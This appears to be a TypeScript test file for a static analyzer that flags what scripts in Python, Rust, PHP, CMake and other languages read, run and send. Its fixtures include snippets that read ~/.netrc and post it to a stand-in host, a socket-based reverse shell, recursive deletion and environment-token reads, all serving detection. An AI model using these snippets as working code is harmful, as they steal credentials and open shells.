import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { isOfOtherLanguage } from './languages.ts';
import { placesIn } from './places.ts';
import { textsIn } from './texts.ts';
import { readOtherLanguage } from './read-other-language.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

describe('scripts of other languages', () => {
  for (const [path, text, is] of [
    ['a.py', '', true],
    ['tools/a', '#!/usr/bin/env python3\n', true],
    ['tools/a', '#!/usr/bin/perl -w\n', true],
    ['CMakeLists.txt', '', true],
    ['native/meson.build', '', true],
    ['build.rs', '', true],
    ['Gemfile', '', true],
    ['a.php', '', true],
    ['a.go', '', false],
    ['a.sh', '#!/bin/sh\n', false],
    ['a', '#!/usr/bin/env node\n', false],
    ['a.js', '', false],
  ] as const)
    it(`${path} ${text.trim()}`, () => assert.equal(isOfOtherLanguage(path, bytes(text)), is));
});

const PLACES: readonly (readonly [code: string, places: readonly string[]])[] = [
  ['p = Path.home() / ".ssh" / "id_rsa"', ['<home>/.ssh/id_rsa']],
  ['HOME = pathlib.Path.home()\nwith open(HOME / ".npmrc") as f: pass', ['<home>/.npmrc']],
  ['f = f"{Path.home()}/.npmrc"', ['<home>/.npmrc']],
  [String.raw`$f = "$env:APPDATA\npm\a.txt"`, ['<home>/AppData/Roaming/npm/a.txt']],
  ['os.path.join(os.path.expanduser("~"), ".aws", "credentials")', ['<home>/.aws/credentials']],
  ['pathlib.Path("/Applications") / ("A" + " B.app") / "Contents"', ['/Applications/A B.app/Contents']],
  ['my $p = "$ENV{HOME}/.netrc";', ['<home>/.netrc']],
  ["File.join(Dir.home, '.kube', 'config')", ['<home>/.kube/config']],
  ['SITE = \'/opt/a\'\nFile.read("#{SITE}/b")', ['/opt/a', '/opt/a/b']],
  ["$r = Join-Path $env:LOCALAPPDATA 'exodus'", ['<home>/AppData/Local/exodus']],
  ['== .vscode/tasks.json\n{ "version": "2.0.0" }', ['*/.vscode/tasks.json']],
  ['# open("~/.ssh/id_rsa")\nx = 1', []],
  ['print("https://a.invalid/b", "a and / or b", "%s/%s")', []],
];

describe('places that a script names', () => {
  for (const [code, places] of PLACES) it(code, () => assert.deepEqual(placesIn(textsIn(readable(code))), places));
});

function readable(code: string): string {
  return code.startsWith('#') ? code.replace(/^#.*\n/, '') : code;
}

function told(code: string, path = 'a.py'): string[] {
  const { uses } = readOtherLanguage(path, code);
  return uses.map(({ module, path, args }) => `${module}:${path} ${args[0]?.text ?? ''}`.trim());
}

describe('what a script does by its words', () => {
  it('reads what it names and sends it', () => {
    const { uses } = readOtherLanguage(
      'a.py',
      'import urllib.request\nd = (Path.home() / ".netrc").read_text()\nurllib.request.urlopen("https://a.invalid/b", data=d.encode())',
    );
    const [read, sent] = uses;
    assert.equal(`${read?.module}:${read?.path} ${read?.args[0]?.text}`, 'fs:readFileSync <home>/.netrc');
    assert.equal(sent?.path, 'fetch');
    assert.deepEqual(sent?.args[1]?.members?.get('body')?.from, [0]);
  });
  it('asks without sending', () => {
    const { uses } = readOtherLanguage('a.py', 'urllib.request.urlretrieve("https://a.invalid/b", "out.bin")');
    assert.equal(uses.find(({ path }) => path === 'fetch')?.args[1]?.members?.get('method'), undefined);
  });
  it('starts programs', () => {
    assert.deepEqual(told('os.system("xattr -cr /a")'), ['child_process:execSync xattr -cr /a']);
    assert.deepEqual(told('subprocess.run(["chmod", "+x", exe])'), ['child_process:execSync chmod +x']);
    assert.deepEqual(told('execute_process(COMMAND systemctl --user enable a.service)'), [
      'child_process:execSync systemctl --user enable a.service',
    ]);
  });
  it('starts what Meson, CMake, Rust and PHP are told', () => {
    assert.deepEqual(told("run_command('sh', '-c', 'ls', check: false)"), ['child_process:execSync sh -c ls']);
    assert.deepEqual(told("custom_target('a', output: 'b', command: ['node', 'x.js'])"), ['child_process:execSync node x.js']);
    assert.deepEqual(told('add_custom_target(setup ALL COMMAND ${CMAKE_COMMAND} -E echo a)').length, 1);
    assert.deepEqual(told('Command::new("git").args(["rev-parse", "HEAD"]).output();', 'build.rs'), [
      'child_process:execSync git rev-parse HEAD',
    ]);
    assert.deepEqual(told("<?php shell_exec('ls -a');", 'a.php'), ['child_process:execSync ls -a']);
    assert.deepEqual(told('COMMAND = "x"\nproject(a C)\nmessage("COMMAND done")'), []);
  });
  it('reads what Rust and PHP name and sends it', () => {
    const rust = `let home = std::env::var("HOME").expect("none");
let text = fs::read_to_string(format!("{home}/.netrc"));
Command::new("curl").args(["-d", &text, "https://a.invalid/b"]).status();`;
    const php = `$text = file_get_contents(getenv('HOME') . '/.netrc');
$c = curl_init('https://a.invalid/b'); curl_setopt($c, CURLOPT_POSTFIELDS, $text); curl_exec($c);`;
    for (const [path, code] of [
      ['build.rs', rust],
      ['a.php', php],
    ] as const) {
      const { uses } = readOtherLanguage(path, code);
      assert.equal(uses.find(use => use.path === 'readFileSync')?.args[0]?.text, '<home>/.netrc', path);
      assert.ok((uses.find(use => use.path === 'fetch')?.args[1]?.members?.get('body')?.from.length ?? 0) > 0, path);
    }
  });
  it('keeps what stands behind an attribute', () =>
    assert.deepEqual(told('#[inline] fn main() { Command::new("ls"); }', 'build.rs'), ['child_process:execSync ls']));
  it('gives a shell to a connection', () => {
    assert.deepEqual(told('s = socket.create_connection(a)\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)'), [
      'net:connect',
      'child_process:spawn sh',
    ]);
    assert.deepEqual(told('s = socket.create_connection(a)\ns.close()'), []);
  });
  it('deletes what stands in the call, and names the place it stands in', () => {
    assert.deepEqual(told('import shutil\nFONTS = ["/Library/Fonts"]\nshutil.rmtree(tmp)\nshutil.rmtree("/opt/a/b")'), [
      'fs:rmSync /opt/a/b',
    ]);
    assert.deepEqual(told('os.system("sh " + os.path.dirname(os.path.abspath(__file__)) + "/x.sh")'), [
      'child_process:execSync sh <here>/x.sh',
    ]);
  });
  it('takes the environment', () => {
    assert.deepEqual(told('dict(os.environ)'), [':process.env']);
    assert.deepEqual(told('os.environ.get("NPM_TOKEN")'), [':process.env.NPM_TOKEN']);
  });
  it('does nothing', () => assert.deepEqual(told('"""Reads ~/.ssh/id_rsa"""\n# os.system("rm -rf /")\nprint(1 + 1)'), []));
  it('takes its parts from beside it', () =>
    assert.deepEqual(
      ['from archive import Archive\nimport os.path', 'from .core import (a,\n  b)\nimport c', 'from .. import d']
        .map(code =>
          readOtherLanguage('x/y/a.py', code)
            .links.map(({ specifier }) => specifier)
            .filter(one => one.endsWith('.py')),
        )
        .map(links => links.filter(one => !one.endsWith('__init__.py'))),
      [
        ['./archive.py', './archive/Archive.py', './../../archive.py', './../../archive/Archive.py', './os/path.py', './../../os/path.py'],
        ['./core.py', './core/a.py', './core/b.py', './c.py', './../../c.py'],
        ['./../d.py'],
      ],
    ));

  it('takes folders and files of its own in', () =>
    assert.deepEqual(
      [
        'add_subdirectory(tools)\ninclude(SimdProbe)',
        "subdir('src')",
        "require_once __DIR__ . '/lib/a.php';",
        'mod helper;\ninclude!("table.rs");',
      ].map(code => readOtherLanguage('a', code).links.map(({ specifier }) => specifier)),
      [
        ['./tools/CMakeLists.txt', './SimdProbe.cmake', './cmake/SimdProbe.cmake'],
        ['./src/meson.build'],
        ['./lib/a.php'],
        ['./helper.rs', './helper/mod.rs', './table.rs'],
      ],
    ));
});
